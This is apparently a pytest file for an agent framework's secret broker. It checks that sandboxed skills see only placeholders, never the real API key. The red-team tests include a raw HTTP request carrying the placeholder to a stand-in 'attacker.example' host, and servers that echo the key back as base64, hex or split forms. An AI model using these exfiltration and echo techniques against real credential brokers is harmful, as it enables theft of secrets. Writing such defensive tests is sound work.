"""A brokered secret, by effect: the host gets the key, and the skill finds it nowhere."""

from __future__ import annotations

import base64
import json
import os
import signal
import ssl
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from agent.broker.striking import Strike, echoes
from agent.caller import execute
from agent.domain.stand_in import StandIns
from agent.languages.python import PythonLanguage
from agent.ports import Deployment
from agent.runtimes.process import ProcessRuntime
from agent.runtimes.supervised import SupervisedRuntime
from agent.sandboxes.bubblewrap import BubblewrapSandbox
from agent.stages.invoking import prepare
from tests.brokers import ASKED, HELD, IN_A_QUERY, KEY, OUTPUTS, PLACEHOLDER, SEEKS, Host, Tls, a_tls, body_of, get, ok, talked
from tests.contracts.networks import SECURE, World, a_world
from tests.redteam.threats import threat
from tests.runtimes import VAULT, ProcessBench

SUPERVISE = (
    VAULT
    + """
import json, sys
from pathlib import Path
from agent.languages.python import PythonLanguage
from agent.runtimes.process import ProcessLauncher
from agent.sandboxes.bubblewrap import BubblewrapSandbox
from agent.supervisor import serve
state = Path(sys.argv[1])
launcher = ProcessLauncher(state, BubblewrapSandbox(), {"python": PythonLanguage()}, json.loads(sys.argv[2]), Vault(), sys.argv[3])
serve(state, launcher, 900.0, Vault(), 1)
"""
)


class Bench(ProcessBench):
    def __init__(self, folder: Path, world: World) -> None:
        self.world, self.authority = world, folder / "authority.pem"
        self.authority.write_text(world.authority)
        super().__init__(folder)

    def another(self) -> SupervisedRuntime:
        command = (sys.executable, "-c", SUPERVISE, str(self.state), json.dumps(self.world.resolve), str(self.authority))
        return ProcessRuntime(self.state, BubblewrapSandbox(), {"python": PythonLanguage()}, command)

    def seeking(self) -> Deployment:
        return self.deployment(SEEKS, permissions=ASKED, outputs=OUTPUTS, health={"interval": "1s", "timeout": "10s", "retries": 2})


@pytest.fixture(scope="module")
def tls(tmp_path_factory: pytest.TempPathFactory) -> Tls:
    return a_tls(tmp_path_factory.mktemp("tls"))


@pytest.fixture
def bench(tmp_path: Path) -> Iterator[Bench]:
    with a_world(tmp_path) as world:
        bench = Bench(tmp_path, world)
        yield bench
        bench.close()


@threat(45)
@pytest.mark.bubblewrap
def test_a_skill_finds_the_key_that_it_sends_nowhere_also_after_its_supervisor_died(bench: Bench) -> None:
    bench.runtime.deploy(bench.seeking())
    reply = bench.call(deadline=30)
    assert reply.success, (reply, bench.runtime.logs("word-count", 20))
    assert bench.world.received == [f"{SECURE} /b?key={IN_A_QUERY}"] and reply.outputs["said"] == f"from {SECURE}"
    assert reply.outputs["found"] == [] and reply.outputs["seen"] >= 1
    own = reply.outputs["own"]
    assert own.startswith("placeholder-") and HELD not in (bench.state / "supervisor/services.json").read_text()
    os.kill(bench.supervisor(), signal.SIGKILL)
    bench.runtime = bench.another()
    bench.runtime.deploy(bench.seeking())
    assert bench.call(deadline=30).outputs["own"] == own  # the same process, by the door of the next supervisor
    assert bench.world.received[-1] == f"{SECURE} /b?key={IN_A_QUERY}" and len(bench.world.received) == 2


@pytest.mark.bubblewrap
def test_in_a_trial_the_stand_in_is_spoken_to_plainly_and_sees_what_is_made_up(bench: Bench) -> None:
    deployment = bench.seeking()
    route = {"path": "/b", "query": {"key": "trial-API_KEY"}, "reply": {"body": "stood in"}}
    stand_ins = StandIns.model_validate({"hosts": [{"host": f"{SECURE}:443", "routes": [route]}]})
    built = bench.built(SEEKS, deployment.manifest)
    with bench.runtime.trial(built, deployment.manifest, stand_ins) as endpoint:
        reply = execute(endpoint, prepare(deployment.manifest, {"text": "a"}, "ada", "r1", deadline=20.0))
    assert reply.success and reply.outputs["said"] == "stood in" and bench.world.received == []


@threat(46)
@pytest.mark.parametrize("echo", ["{key}", "{json}", "{b64}", "{hex}", "{cut}", "{head}"])
def test_an_echo_gives_the_skill_its_own_placeholder(tmp_path: Path, tls: Tls, echo: str) -> None:
    forms = {"key": KEY, "json": json.dumps(KEY), "b64": base64.b64encode(KEY.encode()).decode(), "hex": KEY.encode().hex(), "cut": "|".join(KEY)}
    told = echo.format(**forms, head="HEAD").encode()
    said, _ = talked(tmp_path, tls, Host(b"HTTP/1.1 200 OK\r\nconnection: close\r\n\r\n" + told), get(f"Authorization: Bearer {PLACEHOLDER}"))
    text = body_of(said)
    assert PLACEHOLDER.encode() in text
    assert KEY.encode() not in text and forms["hex"].encode() not in text and forms["b64"].encode().rstrip(b"=") not in text


@threat(47)
def test_a_placeholder_is_worth_nothing_elsewhere(tmp_path: Path, tls: Tls) -> None:
    elsewhere = f"GET / HTTP/1.1\r\nHost: attacker.example\r\nConnection: close\r\nA: {PLACEHOLDER}\r\n\r\n".encode()
    behind, somebody = Host(ok()), Host(ok())
    talked(tmp_path, tls, behind, elsewhere)
    assert b"host: api.example.com" in behind.got and b"attacker" not in behind.got
    said, _ = talked(tmp_path, (tls[0], ssl.create_default_context()), somebody, get(f"A: {PLACEHOLDER}"))
    assert b"not to be trusted" in said and somebody.got == b""


@threat(115)
def test_what_is_held_back_of_an_answer_does_not_tell_how_the_key_begins() -> None:
    """A host that repeats at once what a skill sends it, a letter at a time: what comes late must not depend on whether the letter is right."""
    for end in range(1, len(KEY)):
        guesses = (KEY[:end], KEY[: end - 1] + "\x7f", "\x7f" * end)
        for before in ("", "a line\n", "said: "):
            told = {len(Strike(echoes({PLACEHOLDER: KEY}))(f"{before}{guess}".encode())) for guess in guesses}
            assert len(told) == 1, (end, before, told)
    strike = Strike(echoes({PLACEHOLDER: KEY}))
    assert strike(b"event: tick\n\n") == b"event: tick\n\n", "an event is not kept from the skill until the next one"
    assert strike(f"{KEY[:9]}".encode()) == b"" and strike(f"{KEY[9:]}\n".encode()) == f"{PLACEHOLDER}\n".encode()
